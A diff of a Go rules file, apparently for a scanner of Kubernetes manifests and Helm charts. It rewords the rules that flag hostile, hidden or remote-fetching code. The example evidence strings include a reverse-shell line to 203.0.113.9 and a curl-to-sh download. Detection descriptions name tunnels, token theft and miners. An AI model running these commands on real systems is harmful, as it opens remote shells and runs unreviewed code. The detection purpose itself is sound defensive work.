@@ -2,7 +2,7 @@ package rules
 
 // Sentences that several rules in this file share.
 const (
-	whyAttack   = "Attackers use such commands for shells, credentials, and rights outside of the container; honest programs rarely need them."
+	whyAttack   = "Attackers use such commands to get shells, credentials, and access outside the container; honest programs rarely need them."
 	whyHidden   = "A reader of the manifest cannot see what runs."
 	switchesOff = "switches off security checks when it starts"
 	askForCode  = "Ask the publisher for the code as plain text in the image."
@@ -29,48 +29,48 @@ var (
 		Looks:  "Commands, arguments, probes, hooks and variables: reverse shells and tunnels, metadata services, the account's token, kubectl on permissions and Secrets, nsenter and chroot, kernel and disks of the node, cron and login files, set-user-ID bits, miners, files sent away, logs and policies switched off.",
 	})
 	PodHiddenCode = row(Rule{
-		Name: "pod-hidden-code", Ref: "POD-19", Level: High, Title: "runs code that is hidden",
+		Name: "pod-hidden-code", Ref: "POD-19", Level: High, Title: "runs hidden code",
 		Why:    whyHidden,
 		Reduce: askForCode,
-		Looks:  "Commands, arguments, probes, hooks and variables: what is decoded and run, programs in base64, words put together by quotes, escapes and variables, characters that change the order of others or have no width, letters that pass for others, code far to the right or far below.",
+		Looks:  "Commands, arguments, probes, hooks and variables: code that is decoded and run, programs in base64, words assembled from quotes, escapes and variables, characters that change the order of others or have no width, look-alike letters, code far to the right or far below.",
 	})
 	ScriptRemoteCode = row(Rule{
 		Name: "script-remote-code", Level: Medium, Title: "has a script that fetches code or switches off checks",
 		Why:    "Code that a script downloads is not part of this review, and switched-off checks leave its connections unprotected.",
 		Reduce: dropIt,
-		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, whether a pod mounts them or not. Signs that honest documentation has count in scripts only.",
+		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, whether a pod mounts them or not. Signs that honest documentation also has count only in scripts.",
 	})
 	ScriptHostileCode = row(Rule{
 		Name: "script-hostile-code", Level: High, Title: "has a script that reaches beyond a container",
 		Why:    whyAttack,
 		Reduce: "Ask the publisher what the script is for.",
-		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, for what pod-hostile-code finds in commands. Of Secrets nothing is shown.",
+		Looks:  "Texts in ConfigMaps, Secrets, annotations and custom resources, for what pod-hostile-code finds in commands. Content of Secrets is never shown.",
 	})
 	ScriptHiddenCode = row(Rule{
-		Name: "script-hidden-code", Level: High, Title: "has code that is hidden",
+		Name: "script-hidden-code", Level: High, Title: "contains hidden code",
 		Why:    whyHidden,
 		Reduce: askForCode,
 		Looks:  "Texts and binary data in ConfigMaps, Secrets, annotations and custom resources, for what pod-hidden-code finds in commands, and programs among them.",
 	})
 	NotesRemoteCode = row(Rule{
 		Name: "notes-remote-code", Level: Medium, Title: "prints notes with commands that fetch code or switch off checks",
-		Why:     "Helm prints the notes after an install, and a person who follows them runs code with their own rights that no review has seen.",
+		Why:     "Helm prints the notes after an install, and a user who follows them runs unreviewed code with their own permissions.",
 		Reduce:  "Do not run the command; ask the publisher for the code as part of the package.",
 		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-remote-code finds in commands. This program does not print them.",
 		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: downloads into a shell: curl https://get.example.com | sh"},
 	})
 	NotesHostileCode = row(Rule{
-		Name: "notes-hostile-code", Level: High, Title: "prints notes with commands that reach beyond what they say",
-		Why:     "Helm prints the notes after an install, and a person who follows them runs the commands with their own rights.",
+		Name: "notes-hostile-code", Level: High, Title: "prints notes with suspicious commands",
+		Why:     "Helm prints the notes after an install, and a user who follows them runs the commands with their own permissions.",
 		Reduce:  "Do not run the command; ask the publisher what it is for.",
 		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hostile-code finds in commands. This program does not print them.",
 		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: opens a shell for another host: bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
 	})
 	NotesHiddenCode = row(Rule{
-		Name: "notes-hidden-code", Level: High, Title: "prints notes that hide something",
-		Why:     "Helm prints the notes after an install: a person copies other commands from them than those that are seen, or the terminal obeys characters in them.",
+		Name: "notes-hidden-code", Level: High, Title: "prints notes with hidden content",
+		Why:     "Helm prints the notes after an install: the commands that a user copies differ from the ones on the screen, or the terminal obeys hidden characters.",
 		Reduce:  "Do not copy from the notes; ask the publisher for plain text.",
-		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hidden-code finds in commands: also control characters of terminals. This program does not print them.",
+		Looks:   "The notes (NOTES.txt) of a chart and its subcharts, rendered as Helm does, for what pod-hidden-code finds in commands, and for control characters of terminals. This program does not print them.",
 		Example: Example{Of: "package app:", Evidence: "package/app: templates/NOTES.txt line 3: has characters that change the order of others: echo <U+202E>"},
 	})
 )
